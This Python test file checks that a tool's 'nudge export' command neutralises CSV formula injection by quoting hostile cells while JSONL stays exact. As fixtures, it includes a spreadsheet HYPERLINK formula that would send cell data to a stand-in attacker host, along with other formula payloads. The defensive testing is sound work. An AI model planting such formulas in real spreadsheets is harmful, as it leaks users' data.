"""``nudge export``: the CSV is safe to open in a spreadsheet (issue 12, item 6), the JSONL is exact.

End to end: names chosen by a hostile visitor (an annotator typed into the API, a
session id) go through a real ``nudge serve`` into the database and out through
the real ``nudge export`` command.
"""

import csv
import json
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from conftest import SMALL_NET, nudge_serve
from gradio_client import Client

from nudge.loop.config.settings import SessionConfig
from nudge.loop.datasets import Dataset
from nudge.loop.export.annotations import export_annotations, spreadsheet_safe
from nudge.loop.session.session import Session
from nudge.loop.store.store import Store

HYPERLINK = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
SESSION = "hostile"  # a session name cannot be a formula: only letters, digits, '.', '-', '_' (loop.limits)
pytestmark = pytest.mark.filterwarnings("ignore::pandas.errors.Pandas4Warning")


@pytest.mark.parametrize("cell, safe", [
    (HYPERLINK, "'" + HYPERLINK), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\rx", "'\rx"), ("\0x", "'\0x"), ("  =1+1", "'  =1+1"), ("\n-1", "'\n-1"),
    ("alice", "alice"), ("a=b", "a=b"), ("", ""), ("[[-0.5, 0.25]]", "[[-0.5, 0.25]]"), ("'=1", "'=1"),
])
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(cell, safe):
    assert spreadsheet_safe(cell) == safe


def nudge(*arguments: str) -> subprocess.CompletedProcess:
    script = Path(sys.executable).with_name("nudge")
    command = [str(script)] if script.exists() else [sys.executable, "-m", "nudge.loop.cli"]
    return subprocess.run([*command, *arguments], capture_output=True, text=True, timeout=120, check=True)


def test_hostile_names_from_the_api_are_exported_inert_to_csv_and_exact_to_jsonl(tmp_path):
    db = tmp_path / "hostile.db"
    with nudge_serve(db, "--dataset", "moons", "--n-samples", "200", "--session", SESSION) as server:
        api = Client(server.url, verbose=False)
        query = api.predict(HYPERLINK, api_name="/next")  # no --auth: the typed name is the annotator
        assert query["annotator"] == HYPERLINK
        api.predict(query["query_id"], "1", [-0.5, 0.25], None, None, None, HYPERLINK, api_name="/submit")
        other = api.predict("@evil", api_name="/next")
        api.predict(other["query_id"], "@evil", api_name="/skip")
    nudge("export", "--db", str(db), "--session", SESSION, "--out", str(tmp_path / "log.csv"))
    nudge("export", "--db", str(db), "--session", SESSION, "--out", str(tmp_path / "log.jsonl"))

    with (tmp_path / "log.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["annotator"], r["session"]) for r in rows] == [("'" + HYPERLINK, SESSION), ("'@evil", SESSION)]
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    answer = rows[0]
    assert json.loads(answer["directions"]) == [[-0.5, 0.25]]  # a JSON cell starts with "[" and stays JSON
    assert (int(answer["point_id"]), int(answer["label"]), answer["undone"]) == (query["point_id"], 1, "False")
    assert float(answer["created_at"]) > 0 and int(answer["model_version"]) >= 0  # numbers stay numbers

    records = [json.loads(line) for line in (tmp_path / "log.jsonl").read_text().splitlines()]
    assert [(r["annotator"], r["session"]) for r in records] == [(HYPERLINK, SESSION), ("@evil", SESSION)]
    assert records[0]["directions"] == [[-0.5, 0.25]]


class LengthEncoder:
    """A stand-in sentence encoder: (length / 40, count of "great") per text."""

    def encode(self, texts):
        return np.array([[len(t) / 40, t.count("great")] for t in texts], dtype=np.float32)


def test_a_rewrite_that_starts_like_a_formula_is_inert_in_csv(tmp_path):
    texts = [f"review {i}: {'great' if i % 2 else 'dull'} film" for i in range(20)]
    encoder = LengthEncoder()
    dataset = Dataset("reviews", encoder.encode(texts), np.arange(20) % 2, ["neg", "pos"], np.arange(15),
                      np.arange(15, 20), texts=texts)
    store = Store(tmp_path / "text.db")
    session = Session.create(store, SessionConfig(dataset="reviews", estimator=SMALL_NET), session_id="text",
                             dataset=dataset, encoder=encoder)
    rewrites = ["\t=1+1 great great", "-2+3 is a great film", "@SUM(A1) great\r\nsecond line"]
    for rewrite in rewrites:
        query = session.next_query("ann")
        session.submit(query.query_id, "neg", annotator="ann", rewrite=rewrite)
    export_annotations(store, tmp_path / "log.csv")
    export_annotations(store, tmp_path / "log.jsonl")
    with (tmp_path / "log.csv").open(newline="", encoding="utf-8") as handle:
        assert [row["rewrite"] for row in csv.DictReader(handle)] == ["'" + r for r in rewrites]
    exact = [json.loads(line)["rewrite"] for line in (tmp_path / "log.jsonl").read_text().splitlines()]
    assert exact == rewrites
    store.close()
